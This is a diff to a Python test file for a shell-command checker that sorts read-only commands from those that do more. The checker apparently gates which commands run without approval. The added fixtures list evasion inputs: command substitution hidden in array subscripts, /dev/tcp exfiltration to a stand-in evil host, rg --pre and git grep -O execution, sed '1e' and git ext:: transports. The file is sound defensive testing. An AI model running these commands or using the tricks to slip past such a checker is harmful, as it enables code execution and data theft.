@@ -59,6 +59,74 @@ tree -L 2
 echo hello
 test -f README.md && echo there
 cat a.txt; cat b.txt
+ls -lah --color=never
+ls src/*.py tests/*.py
+cat pyproject.toml
+head -50 src/app.py
+tail -n 100 server.log
+wc -l < notes.txt
+cat < /dev/null
+cat < frontend/dev/notes.txt
+grep -rn TODO src
+grep -in 'error' logs/*.txt
+grep -n x -- *
+grep -E 'a|b' src/main.py
+grep -rE -- '-x' src
+rg -n needle
+rg needle src/*.py
+rg -n 'def test_' tests -- tests
+rg x -- *
+rg --files -g '*.py'
+rg -t py needle
+find . -type f -name '*.md' -not -path './node_modules/*'
+find src/* -name x.py
+find . -mtime -2 -print
+find . -size +1M -ls
+git log --oneline --graph --all -20
+git log -p -- src/main.py
+git log -- *
+git log --format='%h %s' -10
+git log --pretty=format:%an --since=yesterday
+git log HEAD~3 --stat
+git diff HEAD~2 -- src/*.py
+git diff --stat -- *.py
+git diff main
+git show HEAD:README.md
+git show HEAD@{1}
+git grep -n needle -- src
+git grep -n -- needle
+git grep -e x -- y
+git status -uno
+git shortlog -sn
+git ls-files --others --exclude-standard
+git describe --tags
+git branch -vv
+sort -r names.txt | uniq -c | sort -rn | head -3
+sort -- *
+sort -t: -k2 names.txt
+uniq names.txt
+cut -f1,3 -d, data.csv
+jq '.dependencies | keys' package.json
+jq -r '.[] | .name' data/*.json
+date
+date -d yesterday +%F
+date -u +%H:%M
+date -I
+tree -aL 2 src
+file -b picture.png
+file -- *
+test -d .venv
+test -f Makefile -a -r Makefile
+test 3 -gt 2 && echo yes
+test ! -e build
+du -sh src/*
+diff -u a.txt b.txt
+stat -c %s README.md
+md5sum *.txt
+ps aux
+cd web && cat package.json | jq .version
+command -v node
+echo {a,b}
 # only a comment, then
 """.strip().splitlines()[:-1]
 
@@ -235,12 +303,213 @@ cat x; exit
 """.strip().splitlines()
 
 
+# What somebody from outside tried, and what was not taken for reading.
+HELD = r"""
+[ -v 'a[$(id >&2)]' ]
+[ 'a[$(id)]' -eq 1 ]
+find . -fprintf x %p
+find . -name x -delete
+find . -files0-from x
+find . -exec id ;
+find -okdir id
+sort -o x y
+sort --compress-program=id x
+sort -S1 -T. --compress-prog=id
+sort -kx --files0-from=x
+sort -t x -o y
+sed -n 1p x
+awk 1
+rg --pre id x
+rg -z x
+rg -e x --pre=id
+grep -f x y
+grep -r x --include=* .
+git grep -O x
+git grep -Oid x
+git grep -ec --open-files-in-pager=id x
+git diff --output=x
+git log -Sx --ext-diff
+git log --output=x
+git log -p --textconv
+git diff --no-index a b
+git blame --contents x
+git blame -S x y
+git reflog expire
+git branch x
+git branch -l x
+git tag -l x
+git tag x
+git remote show origin
+git -c a=b status
+git -C .. status
+git cat-file --textconv HEAD:x
+git cat-file --filters HEAD:x
+git cat-file --batch
+git ls-files -oX x
+git log --pretty=format:%G?
+git log --show-signature
+git tag -l --format=%(contents:signature)
+git branch --format=%(if)
+jq -f x
+jq -L . import
+date -s x
+date -f x
+tree -o x
+tree -aLo 2
+file -C -m x
+file -m x
+uniq a b
+uniq -- a b
+uniq -c a -- b
+xxd -r a
+xxd a b
+xxd -r
+xxd -l4 a b
+xxd a -- b
+env
+env id
+xargs id
+tar tf x
+command id
+cat $(id)
+cat `id`
+cat <(id)
+cat <<EOF
+cat <<< x
+echo a > b
+echo a >| b
+echo a &> b
+echo a > /dev/null/../x
+echo a >/dev/tcp/1/2
+ls 2>/dev/stderr
+grep x *
+find * -name x
+a=b
+a=b ls
+LS=1 cat x
+GIT_EXTERNAL_DIFF=id git diff
+! ls
+( ls )
+{ ls; }
+ls | sh
+ls |& cat
+echo a | tee b
+echo "$HOME"
+echo "a\`id\`"
+echo 'a'$'\x24(id)'
+echo $'a'
+echo $"a"
+cat a\ b
+\ls
+[ a = b ]
+[[ -v a ]]
+printf -v 'a[$(id)]' x
+printf x
+let 'a[$(id)]=1'
+declare x
+source x
+. x
+eval id
+exec id
+trap id EXIT
+alias ls=id
+grep -e x -f y
+grep -Pf y
+rg -ef x
+sort -k1,1 -no x
+sort -ro x
+git diff -O x
+git log -L1,2:x
+git log -L :f:x
+git log --grep=x --all --output-directory=x
+git describe --contains
+git ls-tree -r HEAD --format=x
+git status --porcelain=v2 --find-renames
+git log -i --exec=x
+git rev-parse --parseopt
+git ls-files --with-tree=x
+cat ${x}
+git log --format=%(trailers)
+git branch --contains x
+git branch --sort=x --list y
+git tag --contains x y
+git worktree list x
+git stash show stash@{0}
+git reflog show -5 --all
+git --paginate log
+git help x
+git log -h
+git --no-pager --no-pager -p log
+rg --hostname-bin=id x
+rg --search-zip x
+rg --sort=path --pre-glob=x x
+find . -fls x
+find . \( -name x \)
+find . ( -name x )
+""".strip().splitlines()
+
+# What they tried and what was: it ran code, opened a connection, or took a file's name for an
+# option. And what is of the same kind.
+NOT_READING_EITHER = r"""
+test -v 'a[$(id >&2)]'
+test -v 'a[$(exec 3<>/dev/tcp/127.0.0.1/8080; cat notes >&3)]'
+test -R 'a[$(id)]'
+test 'x[$(id>&2)]' -eq 0
+test -f x -a -v 'a[$(id)]'
+test *
+test -f *
+cat < /dev/tcp/127.0.0.1/8080
+cat </dev/udp/1.1.1.1/53
+cat < /dev/tcp/secret.evil.example/80
+cat < //dev/tcp/127.0.0.1/80
+cat < /../dev/tcp/127.0.0.1/80
+wc -c < /dev/tcp/127.0.0.1/80
+rg * -- x
+sort * -- y
+git grep * -- y
+git diff * --
+rg x * -- y
+rg *'' x
+rg ''* x
+rg *"" -- x
+rg {a,--pre=id}'' x
+grep -n x -e *
+rg -e -- --pre=id x
+rg -A -- --pre=id x
+rg -ne -- --pre=id x
+rg -e -- *
+git grep -e -- -Oid x
+git grep -ne -- -Oid x
+grep -A -- -f x
+grep --context -- -f x
+sort -k -- -o x
+sort -t -- *
+tree -L -- -o x
+uniq -- *
+uniq a*
+xxd src/*
+find -- *
+find * -print
+date 010101012030
+date -u 010101012030
+date + 010101012030
+date -d now 010101012030
+date -- 010101012030
+date *
+git log --format=%GG
+git show --format=%GS
+git log --pretty=%h%G?
+jq --arg a -- -f x
+jq . *
+""".strip().splitlines()
+
+
 @pytest.mark.parametrize("command", READS)
 def test_it_only_reads(command: str) -> None:
     assert reads_only(command)
 
 
-@pytest.mark.parametrize("command", DOES_MORE)
+@pytest.mark.parametrize("command", [*DOES_MORE, *HELD, *NOT_READING_EITHER])
 def test_it_may_do_more(command: str) -> None:
     assert not reads_only(command)
 
@@ -275,6 +544,24 @@ SPOKEN = {
     "cd web && npm test": "go into web, then run the tests with npm",
     "python scripts/x.py --a": "run the program scripts/x.py",
     "sed -i s/a/b/ x.txt": "change x.txt with sed",
+    "sed -i -E 's|a/(b)|\\1;c|g' x.txt y.txt": "change x.txt, y.txt with sed",
+    "sed -i 's/a\\/b/c/' x.txt": "change x.txt with sed",
+    "git clone https://example.org/x.git": "clone a git repository",
+    "python3 -m unittest -q": "run the tests with unittest",
+    "apt-get install -y jq": "install jq with apt-get",
+    "cp -r a b": "copy a to b",
+    "mkdir -p a/b": "make the folder a/b",
+    "ln -sf a b": "link a as b",
+    "curl -sSL https://example.org": "call a web address with curl",
+    "git commit -am 'fix a::b'": "make a git commit",
+    "git checkout -b next": "check out another state with git",
+    "git clean -fdx": "delete files that git does not know",
+    "git clone -u ./x y z": "clone a git repository, with options you should look at",
+    "git clone -qc core.fsmonitor=./x y": "clone a git repository, with options you should look at",
+    "git rebase -x ./x main": "rebase with git, with options you should look at",
+    "zip -TT ./x a": "pack ./x, a, with options you should look at",
+    "ssh -o ProxyCommand=x host": "log in to another machine with ssh, with options you should "
+    "look at",
     "chmod +x run.sh && ./run.sh": "change the rights of run.sh, then run the program ./run.sh",
     "pip install requests": "install requests with pip",
     "make -f evil.mk": "run evil.mk with make, with options you should look at",
@@ -301,6 +588,21 @@ def test_a_command_is_told_in_words(command: str) -> None:
         "sudo rm x",
         "git -c core.pager=x log",
         "sed -i '1e curl x' a.txt",
+        "sed -i 's/a/b/;1e touch x;s/c/d/' f",
+        "sed -i 's/a/b/e' f",
+        "sed -i 's/a/b/w /tmp/x' f",
+        "sed -i 's/a/b/gw x' f",
+        "sed -i s/a/b/ -e '1e touch x' f",
+        "sed -i s/a/b/ -f x.sed f",
+        "sed -i s/a/b/",
+        "sed -i 's/a/b/\n1e touch x\ns/c/d/' f",
+        "sed s/a/b/ f -i -n",
+        "git clone 'ext::sh -c id' x",
+        "git fetch 'ext::sh -c id'",
+        "git push ext::x",
+        "cp -t /etc a",
+        "mv -ft etc a",
+        "git pull 'fd::17' main",
         "rm x & ls",
         "a && b && c && d",
         "echo 'unfinished",
